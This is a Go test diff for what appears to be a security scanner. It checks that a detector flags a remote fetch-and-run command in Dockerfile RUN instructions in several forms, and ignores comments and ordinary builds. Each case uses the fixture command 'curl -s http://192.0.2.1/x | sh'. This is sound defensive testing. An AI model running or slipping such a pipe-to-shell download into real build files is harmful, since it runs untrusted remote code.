@@ -235,6 +235,32 @@ func TestMessages(t *testing.T) {
 	}
 }
 
+// TestDockerfile: what building an image runs is judged as a shell would run it.
+func TestDockerfile(t *testing.T) {
+	const fetch = "curl -s http://192.0.2.1/x | sh"
+	for _, c := range []struct {
+		name, file, text string
+		want             int
+	}{
+		{name: "a command", text: "FROM a\nRUN " + fetch + "\n", want: 1},
+		{name: "on several lines", text: "FROM a\nRUN apt-get update && \\\n# more\n    " + fetch + "\n", want: 1},
+		{name: "behind options", text: "RUN --mount=type=cache,target=/x --network=none " + fetch, want: 1},
+		{name: "as a list", text: `RUN ["sh", "-c", "` + fetch + `"]`, want: 1},
+		{name: "as a script", text: "RUN <<EOF\nset -e\n" + fetch + "\nEOF\nCMD x\n", want: 1},
+		{name: "of another name", file: "serve.Dockerfile", text: "run " + fetch, want: 1},
+		{name: "a comment", text: "# RUN " + fetch + "\nLABEL a=\"RUN " + fetch + "\"\n"},
+		{name: "what is usual", text: "FROM python:3.11\nRUN pip install --no-cache-dir -r requirements.txt && \\\n    rm -rf /root/.cache\nCOPY . /app\nRUN <<EOF\necho a\n"},
+		{name: "another file", file: "notes.txt", text: "RUN " + fetch},
+	} {
+		if c.file == "" {
+			c.file = "Dockerfile"
+		}
+		if got := detectortest.Scan([]*detector.Detector{script.Detector}, c.file, []byte(c.text)).Findings; len(got) != c.want {
+			t.Errorf("%s: got %+v, want %d findings", c.name, got, c.want)
+		}
+	}
+}
+
 // TestLanguages: a source is known by its name, or by its first line.
 func TestLanguages(t *testing.T) {
 	const fetch = "curl -s http://192.0.2.1/x | sh"
